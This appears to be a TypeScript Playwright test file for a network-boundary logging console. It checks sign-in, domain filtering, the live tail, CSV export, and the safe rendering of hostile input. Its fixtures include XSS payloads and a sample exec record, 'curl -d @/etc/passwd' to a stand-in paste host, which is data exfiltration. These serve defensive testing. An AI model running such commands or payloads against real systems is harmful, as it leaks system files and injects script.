// The console in real headless Chromium against the COMPILED binary:
// sign-in, the domain filter taking subdomains, a session's gap row, the
// live tail, CSV export, hostile URLs shown as text with no script run
// and no dialog, and the Processes page (exec records: the API's filters,
// hostile argv as text). Run by `npm run test:browser` (and .ci/run), not `npm test`.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import type { Page } from "playwright-core";
import { create } from "@bufbuild/protobuf";
import { ReportProcessLogsRequestSchema } from "../../src/gen/boundaryrelay/v1/process_pb.ts";
import { ADMIN_TOKEN, batch, type Chrome, type ConsoleServer, execRecord as exec, launchChromium, log, startConsoleServer } from "./browser.ts";
import { until } from "../helpers/until.ts";

const GAPPY = "40000000-0000-4000-8000-000000000001";
const HOSTILE_SESSION = "40000000-0000-4000-8000-000000000002";
const LIVE_SESSION = "40000000-0000-4000-8000-000000000003";
const HOSTILE = ["https://x/<script>alert(1)</script>", "javascript:alert(1)", 'https://x/"><img src=x onerror=alert(2)>'];
const TIMEOUT = 60_000;
const HOSTILE_ARGV = ["sh", "-c", "<script>alert(3)</script>", '"><img src=x onerror=alert(4)>'];

let server: ConsoleServer;
let chrome: Chrome;
let page: Page;
const dialogs: string[] = [];

/** Signs in through the form unless the context already holds the console cookie (tests also run alone with -t). */
async function ensureSignedIn(): Promise<void> {
  if ((await chrome.context.cookies()).some((c) => c.name === "boundary_relay_session")) return;
  await page.goto(`${server.url}/login`);
  await page.fill('input[name="token"]', ADMIN_TOKEN);
  await Promise.all([page.waitForURL((u) => u.pathname === "/"), page.press('input[name="token"]', "Enter")]);
}

beforeAll(async () => {
  server = await startConsoleServer();
  const seqs = [...Array.from({ length: 10 }, (_, i) => i), ...Array.from({ length: 5 }, (_, i) => 20 + i)];
  const hosts = ["pastebin.com", "www.pastebin.com", "notpastebin.com", "github.com"];
  await server.ingest.reportBoundaryLogs(batch(seqs.map((s) => log(s, s % 4 === 3, `https://${hosts[s % 4]}/p/${s}`)), GAPPY));
  await server.ingest.reportBoundaryLogs(batch(HOSTILE.map((u, i) => log(i, false, u)), HOSTILE_SESSION));
  await server.ingest.reportProcessLogs(create(ReportProcessLogsRequestSchema, {
    bootId: "86ce15cf-80a2-4b5e-831f-4743ffd37b5f",
    execs: [exec(101, ["curl", "-sS", "https://example.com"]), exec(102, ["git", "status"]), exec(103, ["curl", "-d", "@/etc/passwd", "https://paste.example"]), exec(104, HOSTILE_ARGV)],
  }));
  chrome = await launchChromium();
  page = await chrome.context.newPage();
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
}, TIMEOUT);

afterAll(async () => {
  await chrome?.close();
  await server?.stop();
}, TIMEOUT);

describe("console in Chromium", () => {
  test("signing in with the admin token lands on the page asked for", async () => {
    await page.goto(`${server.url}/records`);
    expect(new URL(page.url()).pathname).toBe("/login");
    await page.fill('input[name="token"]', ADMIN_TOKEN);
    await page.press('input[name="token"]', "Enter");
    await page.waitForURL((u) => u.pathname === "/records");
    expect(await page.textContent("header.top")).toContain("signed in as admin");
    const cookies = await chrome.context.cookies();
    const session = cookies.find((c) => c.name === "boundary_relay_session");
    expect(session?.httpOnly).toBe(true);
    expect(session?.sameSite).toBe("Strict");
  }, TIMEOUT);

  test("filtering by domain includes its subdomains and keeps the filter in the URL", async () => {
    await ensureSignedIn();
    await page.goto(`${server.url}/records`);
    await page.fill('input[name="domain"]', "pastebin.com");
    await page.click('button[type="submit"]:has-text("Apply")');
    await page.waitForURL((u) => u.searchParams.get("domain") === "pastebin.com");
    const domains = await page.$$eval("tbody tr td:nth-child(5)", (tds) => tds.map((td) => td.textContent));
    expect(new Set(domains)).toEqual(new Set(["pastebin.com", "www.pastebin.com"]));
    expect(domains.length).toBe(9);
  }, TIMEOUT);

  test("a session with a gap shows '10 records missing (seq 10–19)'", async () => {
    await ensureSignedIn();
    await page.goto(`${server.url}/sessions`);
    await page.click(`a[href="/sessions/${GAPPY}"]`);
    await page.waitForURL((u) => u.pathname === `/sessions/${GAPPY}`);
    const gap = page.locator("tr.gap");
    expect(await gap.count()).toBe(1);
    expect((await gap.textContent())?.trim()).toBe("10 records missing (seq 10–19)");
  }, TIMEOUT);

  test("a record sent after /live loaded appears without a reload", async () => {
    await ensureSignedIn();
    await page.goto(`${server.url}/live`);
    await until(async () => (await page.textContent("#live-status")) === "following new records", { what: "the live tail to connect", intervalMs: 100 });
    const url = `https://late.example/arrived-${Date.now()}`;
    await server.ingest.reportBoundaryLogs(batch([log(0, false, url)], LIVE_SESSION));
    await until(async () => (await page.locator("#live-rows code", { hasText: url }).count()) === 1, { what: "the new record in /live", intervalMs: 100 });
    expect(await page.locator("#live-rows tr").first().locator("code").textContent()).toBe(url);
  }, TIMEOUT);

  test("CSV export downloads the filtered records", async () => {
    await ensureSignedIn();
    await page.goto(`${server.url}/records?domain=pastebin.com`);
    const [download] = await Promise.all([page.waitForEvent("download"), page.click('a[download]:text-is("CSV")')]);
    const csv = readFileSync((await download.path())!, "utf8");
    const lines = csv.trimEnd().split("\r\n");
    expect(lines[0]).toStartWith("captured_at,event_time,decision,http_method,http_url,domain");
    expect(lines.length).toBe(1 + 9);
    expect(csv).toContain("https://www.pastebin.com/p/1");
    expect(csv).not.toContain("notpastebin");
  }, TIMEOUT);

  test("hostile URLs render as text: no script runs, no dialog opens, nothing links to them", async () => {
    await ensureSignedIn();
    for (const path of ["/records?decision=deny", `/sessions/${HOSTILE_SESSION}`, "/live?decision=deny", "/"]) {
      await page.goto(`${server.url}${path}`);
      await page.waitForLoadState("load");
    }
    await page.goto(`${server.url}/records?decision=deny`);
    const shown = await page.$$eval("td.url code", (els) => els.map((e) => e.textContent));
    for (const url of HOSTILE) expect(shown).toContain(url);
    expect(await page.locator("script:not([src])").count()).toBe(0);
    expect(await page.locator("img").count()).toBe(0);
    expect(await page.locator('a[href^="javascript:" i]').count()).toBe(0);
    const external = await page.$$eval("a[href]", (as) => as.map((a) => (a as HTMLAnchorElement).href).filter((h) => !h.startsWith(location.origin)));
    expect(external).toEqual([]);
    expect(dialogs).toEqual([]);
  }, TIMEOUT);

  test("Processes lists exec records, filters by command through the form, and shows hostile argv as text", async () => {
    await ensureSignedIn();
    await page.goto(`${server.url}/`);
    await Promise.all([page.waitForURL((u) => u.pathname === "/processes"), page.click('nav a:text-is("Processes")')]);
    expect(await page.locator("tbody tr").count()).toBe(4);
    await page.fill('input[name="command"]', "curl");
    await page.click('button[type="submit"]:has-text("Apply")');
    await page.waitForURL((u) => u.searchParams.get("command") === "curl");
    const lines = await page.$$eval("tbody tr td.url code", (els) => els.map((e) => e.textContent));
    expect(lines).toEqual(["curl -sS https://example.com", "curl -d @/etc/passwd https://paste.example"]);
    await page.goto(`${server.url}/processes?since=not-a-time`);
    expect(await page.textContent("[role=alert]")).toContain("since");
    await page.goto(`${server.url}/processes`);
    expect(await page.locator("tbody tr td.url code", { hasText: "<script>alert(3)</script>" }).count()).toBe(1);
    expect(await page.locator("script:not([src])").count()).toBe(0);
    expect(await page.locator("img").count()).toBe(0);
    expect(dialogs).toEqual([]);
  }, TIMEOUT);
});
